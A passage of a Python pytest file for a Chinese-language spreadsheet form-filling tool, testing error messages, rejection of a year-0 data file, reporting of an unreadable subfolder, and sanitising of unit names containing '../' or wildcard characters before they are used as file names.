    assert "Traceback" not in r.stderr
    for english in ("invalid", "argument", "required", "unrecognized", "expected", "usage:", "choose from"):
        assert english not in r.stderr, (english, r.stderr)


def test_absurd_year_in_data_file(tmp_path):
    text = EXAMPLE_DATA.read_text(encoding="utf-8").replace('"年度" = 2023', '"年度" = 0')
    data = tmp_path / "零年.toml"
    data.write_text(text, encoding="utf-8")
    refused(run_cli("fill", data, "-o", tmp_path / "x.xlsx"), "年度 0 不合理")


def test_batch_unreadable_subfolder_is_a_row(tmp_path, monkeypatch):
    from perfxl import batch

    folder = tmp_path / "材料"
    (folder / "甲").mkdir(parents=True)
    (folder / "乙").mkdir()
    copy_of(EXAMPLE_WORKBOOK, folder / "甲" / "a.xlsx")
    copy_of(EXAMPLE_WORKBOOK, folder / "乙" / "b.xlsx")
    real_scandir = os.scandir

    def scandir(path="."):
        if Path(path).name == "乙":       # root ignores permissions: simulate a folder it may not list
            raise PermissionError(errno.EACCES, "Permission denied", str(path))
        return real_scandir(path)

    monkeypatch.setattr(os, "scandir", scandir)
    subs = list(batch.iter_submissions(folder))
    assert [s.workbook.name for s in subs if not s.problem] == ["a.xlsx"]
    problem, = [s for s in subs if s.problem]
    assert problem.workbook.name == "乙" and "无法打开该文件夹" in problem.problem and "没有访问" in problem.problem


def test_project_form_name_from_unit_is_sanitised(tmp_path):
    refused(run_cli("new", "--form", "项目", "--unit", "../项目", cwd=tmp_path), "不能用作文件名")
    r = run_cli("new", "--form", "项目", "--unit", "..甲*单位?", cwd=tmp_path)
    assert r.returncode == 0, r.stderr
    made, = list(tmp_path.iterdir())
    assert made.parent == tmp_path and ".." not in made.name and "*" not in made.name and "?" not in made.name
